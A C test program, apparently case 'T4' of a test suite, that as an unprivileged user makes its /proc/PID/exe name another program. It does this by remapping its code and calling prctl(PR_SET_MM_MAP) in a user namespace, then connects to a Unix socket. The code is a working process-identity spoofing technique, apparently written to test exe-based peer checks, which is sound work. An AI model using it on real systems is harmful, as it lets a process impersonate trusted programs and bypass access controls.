// T4: makes /proc/PID/exe of this process name another program, as an unprivileged user, then connects and holds.
//   forge-exe SOCKET TARGET FORM CODE
// FORM own:     the connecting process makes a user namespace of its own.
//      helper:  a CLONE_VM child in a user namespace does the prctl; the connecting process never leaves ours.
// CODE anonymous: its own code lies in anonymous memory, and the target is not mapped.
//      mapped:    the same, and one page of the target is mapped executable.
//      copied:    its own code lies in private copies of the target's pages: the maps name nothing but the target.
// Statically linked, so that its exe is the only file that has to go.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static struct prctl_mm_map layout;
static char stack[65536] __attribute__((aligned(16)));
static int failed_errno;

static void die(const char *what) {
  printf("error %s %d\n", what, errno);
  exit(1);
}

static int forge(void *unused) {
  (void)unused;
  int result = prctl(PR_SET_MM, PR_SET_MM_MAP, &layout, sizeof layout, 0);
  failed_errno = result ? errno : 0;
  return 0;
}

static void read_layout(int target) {
  char text[4096];
  unsigned long field[64] = {0};
  int stat = open("/proc/self/stat", O_RDONLY);
  long size = read(stat, text, sizeof text - 1);
  close(stat);
  text[size > 0 ? size : 0] = 0;
  char *at = strrchr(text, ')');
  for (int number = 3; number < 64 && at && *at; number++) {
    at = strchr(at, ' ');
    if (at) field[number] = strtoul(++at, NULL, 10);
  }
  layout = (struct prctl_mm_map){
    .start_code = field[26], .end_code = field[27], .start_stack = field[28],
    .start_data = field[45], .end_data = field[46], .start_brk = field[47], .brk = (unsigned long)sbrk(0),
    .arg_start = field[48], .arg_end = field[49], .env_start = field[50], .env_end = field[51],
    .exe_fd = target,
  };
}

struct part { unsigned long start, end; int protection; };

// Replaces every mapping of our own exe by memory with the same bytes: execution goes on in the copy.
static void leave_own_file(int target, int copied) {
  static struct part parts[64];
  static char self[4096], line[8192];
  int count = 0;
  if (readlink("/proc/self/exe", self, sizeof self - 1) < 0) die("readlink");
  FILE *maps = fopen("/proc/self/maps", "r");
  while (fgets(line, sizeof line, maps)) {
    char bits[5];
    struct part *part = &parts[count];
    if (sscanf(line, "%lx-%lx %4s", &part->start, &part->end, bits) != 3) continue;
    line[strcspn(line, "\n")] = 0;
    char *name = strchr(line, '/');
    if (!name || strcmp(name, self)) continue;
    part->protection = (bits[0] == 'r' ? PROT_READ : 0) | (bits[1] == 'w' ? PROT_WRITE : 0) | (bits[2] == 'x' ? PROT_EXEC : 0);
    count++;
  }
  fclose(maps);
  for (int i = 0; i < count; i++) {
    unsigned long length = parts[i].end - parts[i].start;
    int from_target = copied && (parts[i].protection & PROT_EXEC);
    void *copy = from_target ? mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE, target, 0)
                             : mmap(NULL, length, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (copy == MAP_FAILED) die("mmap");
    memcpy(copy, (void *)parts[i].start, length);
    if (mprotect(copy, length, parts[i].protection)) die("mprotect");
    if (mremap(copy, length, length, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)parts[i].start) == MAP_FAILED) die("mremap");
  }
}

int main(int count, char **arguments) {
  setvbuf(stdout, NULL, _IONBF, 0);
  if (count < 5) return 2;
  int own = !strcmp(arguments[3], "own"), mapped = !strcmp(arguments[4], "mapped"), copied = !strcmp(arguments[4], "copied");
  int target = open(arguments[2], O_RDONLY);
  if (target < 0) die("open");
  if (own && unshare(CLONE_NEWUSER)) die("unshare");
  leave_own_file(target, copied);
  read_layout(target);
  if (own) forge(NULL);
  else {
    int child = clone(forge, stack + sizeof stack, CLONE_VM | CLONE_NEWUSER | SIGCHLD, NULL);
    if (child < 0) die("clone");
    waitpid(child, NULL, 0);
  }
  if (failed_errno) { errno = failed_errno; die("prctl"); }
  if (mapped && mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, target, 0) == MAP_FAILED) die("mmap target");
  close(target);
  struct sockaddr_un address = {.sun_family = AF_UNIX};
  strncpy(address.sun_path, arguments[1], sizeof address.sun_path - 1);
  int connected = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (connect(connected, (struct sockaddr *)&address, sizeof address)) die("connect");
  printf("ready\n");
  for (;;) pause();
}
